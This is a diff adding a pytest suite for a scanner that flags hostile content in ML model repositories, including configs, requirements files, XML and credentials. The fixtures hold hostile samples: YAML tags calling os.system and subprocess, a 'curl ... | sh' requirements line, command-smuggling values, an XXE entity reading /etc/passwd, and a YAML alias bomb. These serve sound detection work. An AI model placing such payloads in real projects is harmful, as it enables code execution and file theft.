@@ -1,0 +1,162 @@
+"""Configuration: callables that it names, code that it has fetched, packages, entities, keys."""
+
+from __future__ import annotations
+
+import json
+
+import pytest
+from evals.repositories import honest_texts
+from repository_scanning import findings_of, of, rules_of
+
+from weighbridge.facts.repository import Reference, Requirement
+from weighbridge.facts.structure import Gap, Metadata
+
+
+def kinds(text: str, name: str) -> list[str]:
+    return [str(finding.kind) for finding in findings_of(text, name)]
+
+
+@pytest.mark.parametrize(
+    ("text", "kind"),
+    [
+        ("a:\n  _target_: os.system\n", "malicious"),
+        ("a:\n  _target_: builtins.eval\n", "malicious"),
+        ("a:\n  _target_: importlib.import_module\n", "suspicious"),
+        ("a: !!python/object/apply:subprocess.Popen [x]\n", "malicious"),
+        ("a: !!python/name:os.system\n", "malicious"),
+        (
+            "%TAG !y! tag:yaml.org,2002:python/\n---\na: !y!object/apply:os.system [x]\n",
+            "malicious",
+        ),
+        ("a: !<tag:yaml.org,2002:python/object/apply:os.system> [x]\n", "malicious"),
+        ("a: !apply:subprocess.check_output [x]\n", "malicious"),
+        ("a: !name:os.popen\n", "malicious"),
+        ("a: !!python/object:argparse.Namespace {lr: 1}\n", "weakness"),
+    ],
+)
+def test_callables_in_yaml(text: str, kind: str) -> None:
+    (found,) = findings_of(text, "c.yaml")
+    assert (found.rule, found.kind) == ("named-callable", kind) and found.evidence["line"] > 0
+
+
+@pytest.mark.parametrize(
+    "name", ["NEMO", "HYDRA", "SPEECHBRAIN", "DETECTION", "AXOLOTL", "COMPOSE"]
+)
+def test_honest_yaml(name: str) -> None:
+    assert findings_of(getattr(honest_texts, name), "config.yaml") == []
+
+
+def test_yaml_is_bounded() -> None:
+    bomb = "a: &a [x]\n" + "".join(
+        f"{chr(98 + n)}: &{chr(98 + n)} [{', '.join('*' + chr(97 + n) for _ in range(9))}]\n"
+        for n in range(20)
+    )
+    deep = "[" * 5000
+    assert findings_of(bomb, "c.yaml") == [] and findings_of(deep, "c.yaml") == []
+    assert rules_of(deep + "\nx: !!python/name:os.system ''\n", "c.yaml") == {"named-callable"}
+
+
+@pytest.mark.parametrize(
+    ("config", "expected"),
+    [
+        ({"_attn_implementation_internal": "a/b"}, "malicious"),
+        ({"text_config": {"_experts_implementation_internal": "a/b@main"}}, "malicious"),
+        ({"attn_implementation": "someone/kernel"}, "suspicious"),
+        ({"attn_implementation": "kernels-community/flash-attn"}, "weakness"),
+        ({"vision": {"trust_remote_code": True}}, "suspicious"),
+        ({"trust_remote_code": True}, "weakness"),
+    ],
+)
+def test_code_that_is_fetched_without_being_asked(config: dict, expected: str) -> None:
+    assert kinds(json.dumps(config), "config.json") == [expected]
+
+
+@pytest.mark.parametrize(
+    "config",
+    [
+        {"_attn_implementation_internal": "sdpa", "attn_implementation": "flash_attention_2"},
+        {"trust_remote_code": False, "trust": {"trust_remote_code": "true"}},
+        {"path": "a/b/c", "_name_or_path": "acme/base"},
+    ],
+)
+def test_ordinary_configuration(config: dict) -> None:
+    assert findings_of(json.dumps(config), "config.json") == []
+
+
+@pytest.mark.parametrize(
+    ("line", "kind"),
+    [
+        ("requests; curl http://192.0.2.1 | sh", "malicious"),
+        ("numpy==1.0 && echo x", "malicious"),
+        ("pandas`echo x`", "malicious"),
+        ("--extra-index-url http://192.0.2.1/simple", "suspicious"),
+        ("-i https://pypi.attacker.example/simple", "suspicious"),
+        ("acme @ http://192.0.2.1/acme.whl", "suspicious"),
+        ("acme @ https://files.example.org/acme.whl", "weakness"),
+        ("git+https://git.example.org/acme.git", "weakness"),
+    ],
+)
+def test_requirements(line: str, kind: str) -> None:
+    assert kinds(f"torch\n{line}\n", "requirements.txt")[0] == kind
+
+
+@pytest.mark.parametrize("name", honest_texts.REQUIREMENTS)
+def test_honest_requirements(name: str) -> None:
+    assert findings_of(honest_texts.REQUIREMENTS[name], "requirements-dev.txt") == []
+
+
+def test_requirements_are_facts() -> None:
+    facts = of(Requirement, "torch>=2.0 ; python_version > '3.8'\n-r x.txt\n", "requirements.txt")
+    assert [(one.name, one.version, one.line) for one in facts] == [
+        ("torch", ">=2.0", 1),
+        ("", "", 2),
+    ]
+
+
+def test_build_fields() -> None:
+    hostile = 'docker:\n  system_packages: ["git\\nRUN echo x"]\n'
+    assert kinds(hostile, "bentofile.yaml") == ["malicious"]
+    assert findings_of(honest_texts.BENTO, "bentofile.yaml") == []
+
+
+def test_entities() -> None:
+    outside = '<?xml version="1.0"?>\n<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<a/>'
+    nested = '<?xml version="1.0"?>\n<!DOCTYPE a [<!ENTITY b "&a;&a;&a;">]>\n<a/>'
+    assert kinds(outside, "m.xml") == ["malicious"] and kinds(nested, "m.xml") == ["suspicious"]
+    assert findings_of(honest_texts.SVG, "logo.svg") == []
+
+
+def test_credentials_are_reported_masked() -> None:
+    token = "hf_" + "aBcDeFgHiJkLmNoPqRsTuVwXyZ12345678"[::-1]
+    (found,) = findings_of(f'{{"token": "{token}"}}', "config.json")
+    assert found.rule == "credential" and found.kind == "weakness"
+    assert "Hugging Face" in found.title and token not in repr(found)
+    assert findings_of("export HF_TOKEN=hf_" + "x" * 34, "README.md") == []
+
+
+def test_a_card_declares() -> None:
+    facts = of(Metadata, honest_texts.README, "README.md")
+    assert {("license", "apache-2.0"), ("base_model", "acme/base"), ("datasets", "acme/data")} <= {
+        (fact.key, fact.value) for fact in facts
+    }
+
+
+def test_other_repositories_and_revisions() -> None:
+    config = {"auto_map": {"AutoModel": "a/b--m.C"}, "code_revision": "abc"}
+    (reference,) = of(Reference, json.dumps(config), "config.json")
+    assert (reference.kind, reference.value, reference.pinned) == ("auto-map", "a/b--m.C", "abc")
+
+
+@pytest.mark.parametrize("text", ["", "{", "[build-system", "a: [", "---\n", "\x00", "<?xml", "{}"])
+def test_damaged_texts(text: str) -> None:
+    for name in (
+        "config.json",
+        "a.yaml",
+        "pyproject.toml",
+        "README.md",
+        "a.ipynb",
+        "x.pth",
+        "a.py",
+    ):
+        for gap in of(Gap, text, name):
+            assert gap.code
